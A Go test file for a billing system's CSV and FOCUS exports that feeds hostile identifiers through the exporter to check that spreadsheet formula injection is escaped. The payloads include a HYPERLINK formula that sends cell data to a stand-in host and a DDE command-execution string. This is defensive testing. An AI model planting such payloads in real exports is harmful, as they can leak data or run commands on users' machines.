package export_test

import (
	"testing"

	"tokenmeter/billing"
	"tokenmeter/billing/export"
	"tokenmeter/internal/safecsv"
	"tokenmeter/internal/testkit/sheettest"
)

// Hostile identifiers: each is a formula, a DDE command or a signed number
// when a spreadsheet reads it as it is.
const (
	evilTenant     = `=HYPERLINK("http://evil.example/?"&A1,"invoice")`
	evilModel      = `=cmd|' /C calc'!A0`
	evilDeployment = `+1+1`
	evilPriceID    = `@SUM(1+1)`
	evilPriceBook  = `-5`
	evilPeriod     = `x;=1+1` // a cell of its own where semicolons separate
)

// exportNumberColumns are the columns of numbers of every CSV dataset:
// the only cells written as they are when they start with a minus.
var exportNumberColumns = map[string]bool{
	"requests": true, "input_tokens": true, "cached_input_tokens": true, "output_tokens": true,
	"input_per_1m": true, "cached_input_per_1m": true, "output_per_1m": true,
	"charge": true, "list_charge": true, "allocated_cost": true, "margin": true,
	"BilledCost": true, "ConsumedQuantity": true, "ContractedCost": true, "ContractedUnitPrice": true,
	"EffectiveCost": true, "ListCost": true, "ListUnitPrice": true, "PricingQuantity": true,
	"x_Tokens": true, "x_Requests": true, "x_AllocatedCost": true, "x_Margin": true,
}

// checkNoFormulas checks every cell of a CSV export: a number column holds
// plain numbers or nulls, a text column no formula trigger where a cell
// could start. It returns the cells by column name of the data rows.
func checkNoFormulas(t *testing.T, data []byte) map[string][]string {
	t.Helper()
	recs := readCSV(t, data)
	cols := map[string][]string{}
	for n, rec := range recs {
		for i, cell := range rec {
			name := recs[0][i]
			if n > 0 {
				cols[name] = append(cols[name], cell)
			}
			if n > 0 && exportNumberColumns[name] {
				if cell != "" && !safecsv.IsNumber(cell) {
					t.Errorf("row %d: number column %s holds %q", n, name, cell)
				}
				continue
			}
			if safecsv.FormulaRisk(cell) {
				t.Errorf("row %d: text column %s holds %q: a spreadsheet may take it as a formula", n, name, cell)
			}
		}
	}
	return cols
}

func hasCell(cells []string, want string) bool {
	for _, c := range cells {
		if c == want {
			return true
		}
	}
	return false
}

// hasNegative reports whether some cell is a negative number.
func hasNegative(cells []string) bool {
	for _, c := range cells {
		if len(c) > 1 && c[0] == '-' && safecsv.IsNumber(c) {
			return true
		}
	}
	return false
}

// hostileExport is a CSV export with hostile identifiers in every text
// field, and cells it must hold.
type hostileExport struct {
	name string
	data []byte
	want map[string]string // a column and a cell it must hold
	neg  string            // a number column that must hold a negative number
}

// hostileExports writes statement lines and usage and cost, natively and
// as FOCUS, with hostile identifiers in every text field and negative
// margins.
func hostileExports(t *testing.T) (exports []hostileExport, usage []export.UsageCostRow) {
	st := testStatement(t, "acme")
	statements := export.StatementRows(st)
	for i := range statements {
		r := &statements[i]
		r.Tenant, r.Period, r.Zone, r.Currency, r.PriceBook, r.StatementHash = evilTenant, evilPeriod, "+05:30", "@USD", evilPriceBook, "-1"
		r.Line.Model, r.Line.Deployment, r.Line.PriceID = evilModel, evilDeployment, evilPriceID
		if r.Line.OriginalPeriod != "" {
			r.Line.OriginalPeriod = "\t=1+1"
		}
		r.Finance = &export.LineFinance{AllocatedCost: r.Line.Charge + 12_500_000_000, Margin: -12_500_000_000}
	}
	usage = usageRows(t, 30)
	for i := range usage {
		r := &usage[i]
		r.Tenant, r.Model, r.Deployment, r.BillingPeriod, r.Currency = evilTenant, evilModel, evilDeployment, evilPeriod, "@USD"
		r.PriceID, r.PriceBook = evilPriceID, evilPriceBook
		r.AllocatedCost = r.ListCharge + 12_500_000_000 // margin -12.5
	}
	accounts := &billing.Accounts{Operator: billing.Operator{ProviderName: "=1+1", PublisherName: "-1", InvoiceIssuerName: "@x"},
		Tenants: []billing.TenantAccount{{ID: evilTenant, Name: "＝1+1"}}}
	return []hostileExport{
		{"statement csv", encodeStatements(t, export.CSV, export.Options{Finance: true}, statements),
			map[string]string{"tenant": "'" + evilTenant, "period": "x;'=1+1", "zone": "'+05:30", "currency": "'@USD",
				"price_book": "'-5", "statement_hash": "'-1", "model": "'" + evilModel, "deployment": "'+1+1",
				"price_id": "'@SUM(1+1)", "original_period": "'\t'=1+1"}, "margin"},
		{"usage-cost csv", encodeUsage(t, export.CSV, export.Options{Finance: true}, usage),
			map[string]string{"tenant": "'" + evilTenant, "model": "'" + evilModel, "deployment": "'+1+1",
				"billing_period": "x;'=1+1", "currency": "'@USD", "price_id": "'@SUM(1+1)", "price_book": "'-5"}, "margin"},
		{"statement focus-csv", encodeStatements(t, export.FocusCSV, export.Options{Finance: true, Accounts: accounts, ServiceName: "+x"}, statements),
			map[string]string{"SubAccountId": "'" + evilTenant, "BillingAccountId": "'" + evilTenant, "BillingAccountName": "'＝1+1",
				"x_Model": "'" + evilModel, "ResourceId": "'+1+1", "ProviderName": "'=1+1", "PublisherName": "'-1",
				"InvoiceIssuerName": "'@x", "ServiceName": "'+x", "ChargeDescription": "'" + evilModel + " input tokens at 0.6 @USD per 1M tokens",
				"SkuId": "'" + evilModel + ":input", "SubAccountName": "'＝1+1", "x_Period": "x;'=1+1"}, "x_Margin"},
		{"usage-cost focus-csv", encodeUsage(t, export.FocusCSV, export.Options{Finance: true}, usage),
			map[string]string{"SubAccountId": "'" + evilTenant, "BillingAccountName": "'" + evilTenant,
				"x_Deployment": "'+1+1", "BillingCurrency": "'@USD", "x_PriceBook": "'-5"}, "x_Margin"},
	}, usage
}

// TestCSVNoFormulas: no cell of the hostile exports may start a formula,
// the identifiers come back with one apostrophe in front of the trigger,
// and negative amounts stay plain numbers.
func TestCSVNoFormulas(t *testing.T) {
	exports, usage := hostileExports(t)
	for _, tt := range exports {
		t.Run(tt.name, func(t *testing.T) {
			cols := checkNoFormulas(t, tt.data)
			for col, want := range tt.want {
				if !hasCell(cols[col], want) {
					t.Errorf("column %s: no cell %q in %q", col, want, first(cols[col], 3))
				}
			}
			if !hasNegative(cols[tt.neg]) {
				t.Errorf("column %s: no negative number in %q", tt.neg, first(cols[tt.neg], 3))
			}
		})
	}
	// The sums of the escaped files are still exact.
	var margin billing.Money
	for _, c := range checkNoFormulas(t, exports[1].data)["margin"] {
		m, err := billing.ParseMoney(c)
		if err != nil {
			t.Fatal(err)
		}
		margin += m
	}
	if want := billing.Money(-12_500_000_000 * len(usage)); margin != want {
		t.Errorf("sum of margins %s, want %s", margin, want)
	}
}

// TestCSVInASpreadsheet opens the hostile exports in LibreOffice Calc
// (formulas evaluated): no cell is a formula, every amount and count is a
// number (negative margins too), every escaped identifier is text.
func TestCSVInASpreadsheet(t *testing.T) {
	exports, _ := hostileExports(t)
	files := make([][]byte, len(exports))
	for i, e := range exports {
		files[i] = e.data
	}
	for i, sheet := range sheettest.Open(t, sheettest.Comma, files...) {
		if n := sheettest.CheckCSV(t, sheet, exports[i].data, func(c string) bool { return exportNumberColumns[c] }); n == 0 {
			t.Errorf("%s: no number cells", exports[i].name)
		}
	}
}

func first(s []string, n int) []string { return s[:min(n, len(s))] }
